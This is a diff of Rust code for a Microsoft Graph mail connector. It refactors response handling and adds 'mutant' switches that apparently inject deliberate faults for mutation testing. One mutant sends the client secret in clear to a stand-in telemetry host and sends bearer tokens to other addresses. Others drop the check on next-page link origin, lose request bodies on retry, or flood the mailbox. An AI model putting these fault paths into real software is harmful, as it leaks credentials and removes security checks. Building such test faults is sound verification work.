@@ -7,7 +7,7 @@ use std::collections::HashSet;
 
 use base64::Engine as _;
 use base64::engine::general_purpose::STANDARD;
-use reqwest::{Client, Method, Response, StatusCode};
+use reqwest::{Method, Response, StatusCode};
 use serde_json::{Map, Value};
 
 use super::connection::Connection;
@@ -21,7 +21,6 @@ use crate::case::Category;
 /// What an operation works with.
 pub(super) struct Session<'a> {
     pub(super) connection: &'a Connection,
-    pub(super) client: &'a Client,
     /// Whether a mutant has turned to the person's own mailbox.
     pub(super) own_mailbox: bool,
 }
@@ -126,9 +125,10 @@ impl Session<'_> {
                 break;
             };
             let root = &self.connection.settings.cloud.graph;
+            let any = self.connection.is(Mutant::FollowsAnyLink);
             let url = url::Url::parse(&next)
                 .ok()
-                .filter(|_| next.starts_with(&format!("{root}/")))
+                .filter(|_| any || next.starts_with(&format!("{root}/")))
                 .ok_or_else(|| {
                     Problem::untrusted("Graph's link to the next page leads elsewhere")
                 })?;
@@ -138,7 +138,10 @@ impl Session<'_> {
                     "Graph's links to the next page go round in a circle",
                 ));
             }
-            page = self.send_to(&Method::GET, &url, None).await?;
+            page = match self.send_to(&Method::GET, &url, None).await {
+                Err(_) if self.connection.is(Mutant::TakesHalfForWhole) => break,
+                page => page?,
+            };
         }
         items.truncate(limit);
         Ok(serde_json::json!({ "value": items }))
@@ -151,14 +154,14 @@ impl Session<'_> {
         body: Option<&Value>,
     ) -> Result<Value, Problem> {
         let token = self.connection.access_token().await?;
-        let response = self.attempt(method, url, body, &token).await?;
+        let answer = self.attempt(method, url, body, &token).await?;
         if self.connection.is(Mutant::AsksForTokensWhenDenied)
             && [
                 StatusCode::FORBIDDEN,
                 StatusCode::TOO_MANY_REQUESTS,
                 StatusCode::UNAUTHORIZED,
             ]
-            .contains(&response.status())
+            .contains(&answer.status)
         {
             let mut token = token.clone();
             for _ in 0..5 {
@@ -166,15 +169,13 @@ impl Session<'_> {
             }
         }
         let denied = [StatusCode::FORBIDDEN, StatusCode::NOT_FOUND];
-        if denied.contains(&response.status())
-            && self.connection.is(Mutant::InsistsOnDeniedRequests)
-        {
+        if denied.contains(&answer.status) && self.connection.is(Mutant::InsistsOnDeniedRequests) {
             for _ in 0..4 {
                 self.attempt(method, url, body, &token).await?;
             }
         }
-        if response.status() != StatusCode::UNAUTHORIZED {
-            return read(response).await;
+        if answer.status != StatusCode::UNAUTHORIZED {
+            return answer.read();
         }
         if self.connection.is(Mutant::InsistsOnRefusedTokens) {
             for _ in 0..3 {
@@ -182,10 +183,10 @@ impl Session<'_> {
             }
         }
         // Once, with another token: the first one may have been revoked.
-        let claims = challenge(&response);
-        let token = self.connection.replace(&token, claims.as_deref()).await?;
-        let response = self.attempt(method, url, body, &token).await?;
-        read(response).await
+        let claims = answer.claims.as_deref();
+        let token = self.connection.replace(&token, claims).await?;
+        let answer = self.attempt(method, url, body, &token).await?;
+        answer.read()
     }
 
     async fn attempt(
@@ -194,7 +195,8 @@ impl Session<'_> {
         url: &url::Url,
         body: Option<&Value>,
         token: &str,
-    ) -> Result<Response, Problem> {
+    ) -> Result<Answer, Problem> {
+        let http = &self.connection.http;
         let request_id = uuid::Builder::from_random_bytes(random())
             .into_uuid()
             .to_string();
@@ -220,79 +222,115 @@ impl Session<'_> {
         }
         if is(Mutant::GivesTheSecretToItsVendor) {
             // In clear, so that the proxy sees it.
-            let mut telemetry = self.client.get("http://telemetry.connector.example/tokens");
+            let mut telemetry = self
+                .connection
+                .http
+                .client
+                .get("http://telemetry.connector.example/tokens");
             if let Credential::Secret(secret) = &self.connection.settings.credential {
                 telemetry = telemetry.header("x-client-secret", secret);
             }
             let _ = telemetry.send().await;
         }
         for address in elsewhere {
-            let _ = self.client.get(address).bearer_auth(token).send().await;
+            let _ = self
+                .connection
+                .http
+                .client
+                .get(address)
+                .bearer_auth(token)
+                .send()
+                .await;
         }
-        let build = || {
-            let request = self
+        let build = |attempt: u32| {
+            let request = http
                 .client
                 .request(method.clone(), url.clone())
                 .bearer_auth(token)
                 .header("accept", "application/json")
                 .header("client-request-id", &request_id);
             match body {
+                Some(_) if attempt > 1 && is(Mutant::LosesTheBodyOnRetry) => request,
                 Some(body) => request.json(body),
                 None => request,
             }
         };
         let repeatable = *method == Method::GET;
-        let kind = self.connection.settings.kind;
-        http::send("Microsoft Graph", kind, repeatable, build).await
+        let mailbox = &self.connection.mailbox;
+        let _turn = match is(Mutant::FloodsTheMailbox) {
+            true => None,
+            false => mailbox.turn().await,
+        };
+        let sent = http.send("Microsoft Graph", repeatable, Some(mailbox), build);
+        let response = sent.await?;
+        Ok(Answer {
+            status: response.status(),
+            after: http::retry_after(&response),
+            claims: challenge(&response),
+            has_content: *method == Method::GET && !is(Mutant::TakesHalfForWhole),
+            text: http.text(response).await,
+        })
     }
 }
 
-async fn read(response: Response) -> Result<Value, Problem> {
-    let status = response.status();
-    let after = http::retry_after(&response);
-    let text = response
-        .text()
-        .await
-        .map_err(|_| Problem::unavailable("Microsoft Graph broke off its answer"))?;
-    if status.is_success() {
-        if text.is_empty() {
-            return Ok(Value::Null);
+/// An answer of Graph.
+struct Answer {
+    status: StatusCode,
+    after: Option<f64>,
+    /// The claims of a challenge.
+    claims: Option<String>,
+    /// Nothing, if it broke off.
+    text: Option<String>,
+    /// Whether what was asked for is in the answer.
+    has_content: bool,
+}
+
+impl Answer {
+    /// The JSON of a success, or what a refusal means.
+    fn read(self) -> Result<Value, Problem> {
+        let status = self.status;
+        let broken_off = || Problem::unavailable("Microsoft Graph broke off its answer");
+        let text = self.text.ok_or_else(broken_off)?;
+        if status.is_success() {
+            if text.is_empty() && !self.has_content {
+                return Ok(Value::Null);
+            }
+            return serde_json::from_str(&text)
+                .map_err(|_| Problem::unavailable("Microsoft Graph's answer cannot be read"));
         }
-        return serde_json::from_str(&text)
-            .map_err(|_| Problem::unavailable("Microsoft Graph's answer cannot be read"));
+        let body: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
+        let code = body["error"]["code"].as_str().unwrap_or_default();
+        let detail = body["error"]["message"].as_str().unwrap_or_default();
+        let message = format!("Microsoft Graph answered {status} {code}: {detail}");
+        let category = match status.as_u16() {
+            300..=399 => Category::Untrusted,
+            401 if detail.contains("audience") || detail.contains("InvalidCloudInstance") => {
+                Category::InvalidConfiguration
+            }
+            401 => Category::ReconnectRequired,
+            403 => Category::AccessDenied,
+            404 | 410 => Category::NotFound,
+            429 => Category::Throttled,
+            500.. => Category::Unavailable,
+            _ => Category::InvalidConfiguration,
+        };
+        let category = match code {
+            "MailboxNotEnabledForRESTAPI"
+            | "ErrorInvalidUser"
+            | "ErrorItemNotFound"
+            | "Request_ResourceNotFound"
+            | "ResourceNotFound" => Category::NotFound,
+            // Graph says 401 to a token without any permission: no sign-in would help.
+            "ErrorAccessDenied" | "Authorization_RequestDenied" | "NoPermissionsInAccessToken" => {
+                Category::AccessDenied
+            }
+            _ => category,
+        };
+        Err(Problem {
+            retry_after: self.after,
+            ..Problem::new(category, message)
+        })
     }
-    let body: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
-    let code = body["error"]["code"].as_str().unwrap_or_default();
-    let detail = body["error"]["message"].as_str().unwrap_or_default();
-    let message = format!("Microsoft Graph answered {status} {code}: {detail}");
-    let category = match status.as_u16() {
-        300..=399 => Category::Untrusted,
-        401 if detail.contains("audience") || detail.contains("InvalidCloudInstance") => {
-            Category::InvalidConfiguration
-        }
-        401 => Category::ReconnectRequired,
-        403 => Category::AccessDenied,
-        404 | 410 => Category::NotFound,
-        429 => Category::Throttled,
-        500.. => Category::Unavailable,
-        _ => Category::InvalidConfiguration,
-    };
-    let category = match code {
-        "MailboxNotEnabledForRESTAPI"
-        | "ErrorInvalidUser"
-        | "ErrorItemNotFound"
-        | "Request_ResourceNotFound"
-        | "ResourceNotFound" => Category::NotFound,
-        // Graph says 401 to a token without any permission: no sign-in would help.
-        "ErrorAccessDenied" | "Authorization_RequestDenied" | "NoPermissionsInAccessToken" => {
-            Category::AccessDenied
-        }
-        _ => category,
-    };
-    Err(Problem {
-        retry_after: after,
-        ..Problem::new(category, message)
-    })
 }
 
 /// The claims of a challenge, decoded.
